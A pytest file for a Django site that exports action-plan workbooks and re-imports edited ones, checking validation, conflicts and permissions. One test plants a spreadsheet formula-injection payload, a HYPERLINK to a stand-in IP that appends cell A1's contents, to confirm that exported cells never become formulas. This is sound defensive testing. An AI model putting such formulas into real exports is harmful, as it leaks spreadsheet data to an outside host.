"""One workbook of every action: given out, changed as people change workbooks, and taken back."""

from __future__ import annotations

import io
import shutil
import subprocess
from datetime import datetime

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from goldthread.documents.workbooks.reading import rows_here
from goldthread_site.owners import actions as directory
from goldthread_site.plans import models
from goldthread_site.plans.changing import changing
from goldthread_site.plans.updates.models import SheetDraft
from goldthread_site.trail.record import first_broken_link
from tests.support.many import rows
from tests.support.my_actions import plan_of_owen
from tests.support.site import person

pytestmark = pytest.mark.django_db
HEADS = ("Row", "Ref", "Action", "Owner", "Due by", "Rating", "Update", "Done on", "Why the date or rating changes")
A_DAY, ANOTHER = datetime.fromisoformat("2027-01-31"), datetime.fromisoformat("2027-02-28")


APART = {
    "test_owner_date_rating_and_update_go_in_with_the_rules_of_the_site",
    "test_a_workbook_that_libreoffice_saved_is_the_same",
}  # read in a process of its own, as on the site; the others here, which is ten times faster


@pytest.fixture(autouse=True)
def read_here(monkeypatch, request):
    if request.function.__name__ not in APART:
        monkeypatch.setattr("goldthread_site.plans.updates.actions.workbook_rows", rows_here)


@pytest.fixture
def plan(programme_manager):
    plan = plan_of_owen(by=programme_manager)
    directory.add_party(by=programme_manager, why="She came", kind="person", name="Aisha Karim")
    return plan


@pytest.fixture
def browser(as_programme_manager):
    return as_programme_manager


def given_out(browser, plan, **asked):
    """The workbook, open."""
    answer = browser.get(reverse("plans:workbook", args=[plan.pk]), asked)
    return openpyxl.load_workbook(io.BytesIO(answer.content))


def row_of(sheet, ref: str) -> int:
    return next(cell.row for cell in sheet["B"] if cell.value == ref)


def write(book, ref: str, **cells) -> None:
    """Types into the row with this reference; the names of columns are their heads’ first words."""
    sheet = book["Actions"]
    for name, value in cells.items():
        column = next(place for place, head in enumerate(HEADS, 1) if head.split()[0].lower() == name)
        sheet.cell(row_of(sheet, ref), column).value = value


def saved(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def taken_back(browser, plan, data: bytes, name: str = "actions.xlsx"):
    file = SimpleUploadedFile(name, data)
    return browser.post(reverse("plans:update_sheets", args=[plan.pk]), {"file": file}, follow=True)


def put_in(browser, answer, **more):
    draft = SheetDraft.objects.get()
    address = reverse("plans:update_review", args=[draft.plan_id, draft.pk])
    return browser.post(address, {"state": answer.context["state"], **more}, follow=True)


def test_it_holds_every_action_its_lists_and_protected_keys(browser, plan):
    book = given_out(browser, plan)
    sheet = book["Actions"]
    assert tuple(cell.value for cell in sheet[1]) == HEADS
    assert [cell.value for cell in sheet["B"]][1:] == ["9.2", "9.3", "9.4", "10.1", "10.3", "10.4"]
    assert [(name, book[name].sheet_state) for name in book.sheetnames] == [
        ("Actions", "visible"), ("Lists", "hidden"), ("As given out", "veryHidden"),
    ]  # fmt: skip
    rules = {str(rule.sqref): rule for rule in sheet.data_validations.dataValidation}
    assert [rules[area].formula1 for area in ("A2:A7", "B2:B7", "C2:C7")] == ["FALSE"] * 3
    lists = {rule.formula1 for rule in rules.values() if rule.type == "list"}
    assert lists == {'"Red,Amber,Green,Blue"', "Lists!$A$2:$A$5"}
    names = ["Owner", "Aisha Karim", "Joan Sefton", "Owen  Tarrant (Head of Service)", "Owen Tarrant"]
    assert [cell.value for cell in book["Lists"]["A"]] == names
    assert sheet["E3"].value == A_DAY, "a day is a date, so that it can be sorted"


def test_the_filter_of_the_list_and_the_ticks_pick_what_is_in_it(browser, plan):
    assert [cell.value for cell in given_out(browser, plan, due="late")["Actions"]["B"]][1:] == ["9.2", "10.4"]
    ticked = browser.post(reverse("plans:workbook", args=[plan.pk]), {"row": [rows(plan)["9.3"].pk]})
    sheet = openpyxl.load_workbook(io.BytesIO(ticked.content))["Actions"]
    assert [cell.value for cell in sheet["B"]][1:] == ["9.3"]
    none = browser.get(reverse("plans:workbook", args=[plan.pk]), {"words": "zebra"}, follow=True)
    assert "No action is in it." in none.content.decode()


def changed_nothing(answer) -> bool:
    return answer.status_code == 422 and "this workbook changes nothing" in answer.content.decode()


def test_a_workbook_that_nobody_changed_changes_nothing(browser, plan):
    book = given_out(browser, plan)
    assert changed_nothing(taken_back(browser, plan, saved(book))) and not SheetDraft.objects.exists()


def test_owner_date_rating_and_update_go_in_with_the_rules_of_the_site(browser, plan):
    book = given_out(browser, plan)
    write(book, "9.3", owner="Aisha Karim", due=ANOTHER, why="The clerk left")
    write(book, "9.2", due="28 Feb 2027", why="No clerk")  # a 4th move: the sponsor is asked
    write(book, "9.4", rating="Red", why="Nobody came")
    write(book, "10.4", update="The room is booked", done="12/11/2026")
    page = taken_back(browser, plan, saved(book))
    words = page.content.decode()
    assert page.context["page"].heading == "This sheet makes 6 changes" and "A 4th move needs agreement." in words
    done = put_in(browser, page)
    assert "4 actions changed." in done.content.decode()
    there = {ref: row.read for ref, row in rows(plan).items()}
    assert (there["9.3"].leads, there["9.3"].due.latest) == (("Aisha Karim",), "2027-02-28")
    assert there["9.3"].due.slipped_from == ("31 Jan 2027",)
    assert there["9.2"].due.latest == "2026-10-31" and models.DateMove.objects.get(action="a9.2").state == "asked"
    assert there["9.4"].rag == "red" and there["10.4"].status == "The room is booked"
    assert there["10.4"].completed == "12 November 2026"
    assert models.Update.objects.get(action="a9.4").read.reason == "Nobody came"
    assert first_broken_link(plan.pk) is None


HANDLED = [  # what a person did besides → nothing is different but what she typed
    "sorted", "filtered", "column hidden", "column widened", "columns moved", "title above", "saved by another name",
]  # fmt: skip


@pytest.mark.parametrize("done", HANDLED)
def test_what_people_do_to_a_sheet_does_not_matter(browser, plan, done):
    book = given_out(browser, plan)
    write(book, "9.4", rating="Red", why="Nobody came")
    sheet = book["Actions"]
    match done:
        case "sorted":
            values = sorted(
                ([cell.value for cell in row] for row in sheet.iter_rows(min_row=2)), key=lambda row: row[2]
            )
            for number, row in enumerate(values, 2):
                for place, value in enumerate(row, 1):
                    sheet.cell(number, place).value = value
        case "filtered":
            for number in (2, 3, 5):
                sheet.row_dimensions[number].hidden = True
        case "column hidden":
            sheet.column_dimensions["A"].hidden = sheet.column_dimensions["F"].hidden = True
        case "column widened":
            sheet.column_dimensions["F"].width = 80
        case "columns moved":
            for row in sheet.iter_rows():
                row[0].value, row[8].value = row[8].value, row[0].value
        case "title above":
            sheet.insert_rows(1, 2)
            sheet["A1"] = "Actions for the meeting"
        case "saved by another name":
            sheet.title = "My actions"
    page = taken_back(browser, plan, saved(book))
    assert [(change.field, change.new) for change in page.context["page"].changes] == [("Rating", "Red")]
    assert page.context["page"].faults == ()


def test_rows_deleted_added_and_emptied_are_said_and_change_nothing(browser, plan):
    book = given_out(browser, plan)
    write(book, "9.4", rating="Red", why="Nobody came")
    write(book, "9.3", rating=None, owner="")
    sheet = book["Actions"]
    sheet.delete_rows(row_of(sheet, "10.4"))
    sheet.delete_rows(row_of(sheet, "9.2"))
    sheet.append([None, "11.1", "A new action", "Aisha Karim"])
    page = taken_back(browser, plan, saved(book)).context["page"]
    assert [change.field for change in page.changes] == ["Rating"] and page.faults == ()
    assert page.notes == (
        "row 2: Owner and Rating were emptied. An empty cell changes nothing.",
        "row 6: it names no action of the plan. Add a new action on the site.",
        "2 rows were deleted. Their actions stay in the plan as they were.",
    )


def test_a_column_that_was_deleted_is_said(browser, plan):
    book = given_out(browser, plan)
    write(book, "9.4", rating="Red", why="Nobody came")
    book["Actions"].delete_cols(4)
    page = taken_back(browser, plan, saved(book)).context["page"]
    assert page.notes == ("The column “Owner” is gone. Nothing of it changes.",) and len(page.changes) == 1


FAULTS = [  # what was typed into 9.3 → the sentence that keeps the workbook out
    ({"rating": "mauve"}, "row 3: “mauve” is not a rating. Write Red, Amber, Green or Blue."),
    ({"due": "31/06/2027", "why": "x y"}, "row 3: “31/06/2027” is not a date. Write it as 31/03/2027 or March 2027."),
    ({"due": "28/02/2027"}, "row 3: say why the date moves to 28/02/2027."),
    ({"due": "01/05/2026", "why": "No clerk"}, "row 3: The date must be after today, 20 November 2026."),
    ({"rating": "Red"}, "row 3: Say why it is red. By its dates it is green."),
    ({"rating": "Blue"}, "row 3: Blue means done and proven. Choose another colour, or say that it is done."),
    ({"owner": "Nobody Known"}, "row 3: nobody called “Nobody Known” is in the directory or leads an action of this "
                                "plan. Check the spelling, or add them to the directory first."),
    ({"action": "Other words"}, "row 3: the words of the action were changed. Change them on the site; here, owner, "
                                "date, rating and update."),
    ({"row": "a9.9"}, "row 3: “a9.9” is no action of this workbook. Leave “Row” as it was."),
    ({"row": "a9.2"}, "row 3: the action a9.2 stands in the workbook twice. Delete one of the rows."),
    ({"done": "12/12/2026"}, "row 3: The day it was done cannot be after today, 20 November 2026."),
    ({"update": "x" * 2001}, "row 3: the update is longer than 2,000 letters. Say it shorter."),
]  # fmt: skip


@pytest.mark.parametrize(("cells", "said"), FAULTS)
def test_one_fault_keeps_the_whole_workbook_out_and_is_named(browser, plan, cells, said):
    book = given_out(browser, plan)
    write(book, "9.4", rating="Red", why="Nobody came")
    write(book, "9.3", **cells)
    page = taken_back(browser, plan, saved(book))
    assert page.context["page"].faults == (said,) and not page.context["page"].may_go_in
    assert put_in(browser, page).status_code == 422 and rows(plan)["9.4"].rag == "amber"


def test_what_was_changed_on_the_site_meanwhile_is_a_conflict_and_never_overwritten(browser, plan, programme_manager):
    book = given_out(browser, plan)
    write(book, "9.4", rating="Red", why="Nobody came", update="The workbook says this")
    with changing(plan, by=programme_manager, why="Told by telephone") as change:
        row = rows(plan)["9.4"]
        change.put(row, row.read.model_copy(update={"status": "The site says this"}), was=row.version)
    page = taken_back(browser, plan, saved(book))
    (conflict,) = page.context["page"].conflicts
    assert (conflict.printed, conflict.current, conflict.new) == ("", "The site says this", "The workbook says this")
    assert put_in(browser, page).status_code == 422 and rows(plan)["9.4"].rag == "amber"
    put_in(browser, page, **{f"keep-{conflict.place}": "plan"})
    assert (rows(plan)["9.4"].value["status"], rows(plan)["9.4"].rag) == ("The site says this", "red")


def test_a_column_that_the_workbook_left_alone_keeps_what_the_site_says_now(browser, plan, programme_manager):
    book = given_out(browser, plan)
    write(book, "9.4", rating="Red", why="Nobody came")
    with changing(plan, by=programme_manager, why="Told by telephone") as change:
        row = rows(plan)["9.4"]
        change.put(row, row.read.model_copy(update={"status": "The site says this"}), was=row.version)
    page = taken_back(browser, plan, saved(book))
    assert page.context["page"].conflicts == ()
    put_in(browser, page)
    assert (rows(plan)["9.4"].value["status"], rows(plan)["9.4"].rag) == ("The site says this", "red")


def test_the_same_workbook_a_second_time_changes_nothing_more(browser, plan):
    book = given_out(browser, plan)
    write(book, "9.4", rating="Red", why="Nobody came")
    data = saved(book)
    put_in(browser, taken_back(browser, plan, data))
    version = rows(plan)["9.4"].version
    again = taken_back(browser, plan, data)
    assert again.context["page"].heading == "This sheet changes nothing" and rows(plan)["9.4"].version == version


def test_a_workbook_of_another_plan_and_one_without_its_hidden_sheet_are_refused(browser, plan, programme_manager):
    other = plan_of_owen_again(programme_manager)
    book = given_out(browser, other)
    assert "this workbook is of another plan" in taken_back(browser, plan, saved(book)).content.decode()
    book = given_out(browser, plan)
    del book["As given out"]
    assert "has lost what it said" in taken_back(browser, plan, saved(book)).content.decode()


def plan_of_owen_again(by):
    from goldthread_site.plans import actions
    from tests.support.my_actions import owens_plan

    return actions.put_in(owens_plan(), by=by, why="Brought in", file_name="q.json", file_digest="3" * 64)


@pytest.mark.parametrize("sign", "=+-@")
def test_no_cell_that_goes_out_is_a_formula(browser, plan, programme_manager, sign):
    said = f'{sign}HYPERLINK("http://198.51.100.1/?"&A1)'
    with changing(plan, by=programme_manager, why="As told") as change:
        row = rows(plan)["9.4"]
        value = row.read.model_copy(update={"status": said, "text": said, "leads": (said,)})
        change.put(row, value, was=row.version)
    answer = browser.get(reverse("plans:workbook", args=[plan.pk]))
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "d"} and sum(cell.value == said for cell in cells) >= 6
    shown = [cell for cell in cells if cell.value == said and cell.parent.title == "Actions"]
    assert all(cell.quotePrefix for cell in shown)
    assert changed_nothing(taken_back(browser, plan, saved(book)))


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not here")
def test_a_workbook_that_libreoffice_saved_is_the_same(browser, plan, tmp_path):
    book = given_out(browser, plan)
    write(book, "9.4", rating="Red", why="Nobody came")
    (tmp_path / "actions.xlsx").write_bytes(saved(book))
    out, home = tmp_path / "out", tmp_path / "home"
    told = ["--headless", f"-env:UserInstallation=file://{home}", "--convert-to", "xlsx", "--outdir", str(out)]
    subprocess.run(["soffice", *told, str(tmp_path / "actions.xlsx")], check=True, capture_output=True, timeout=120)
    page = taken_back(browser, plan, (out / "actions.xlsx").read_bytes())
    assert [(change.field, change.new) for change in page.context["page"].changes] == [("Rating", "Red")]
    assert (page.context["page"].faults, page.context["page"].notes) == ((), ())


def test_every_plan_of_the_list_comes_back_as_it_went_out(programme_manager):
    """The workbook and its reader agree on texts that are hard to write: dates of every kind, many names."""
    from datetime import date

    from goldthread.documents.workbooks.writing import workbook_of
    from goldthread_site.my.management.commands.load_demo import load_demo_plan
    from goldthread_site.plans.updates.against import plan_of_sheets

    plan = load_demo_plan(programme_manager) or models.Plan.objects.latest("pk")
    core = plan_of_sheets(plan)
    data = workbook_of(core, mark="1", names=["Aisha Karim"], as_at=date(2026, 11, 20))
    mark, found = rows_here(data, name="w.xlsx")
    assert mark == "1" and len(found) == len(core.actions)
    assert [row for row in found if not row.is_empty or row.note] == []


@pytest.mark.parametrize("role", ["viewer", "director", "action_owner"])
def test_who_may_not(client, plan, role):
    client.force_login(person(role))
    assert client.get(reverse("plans:workbook", args=[plan.pk])).status_code == 403
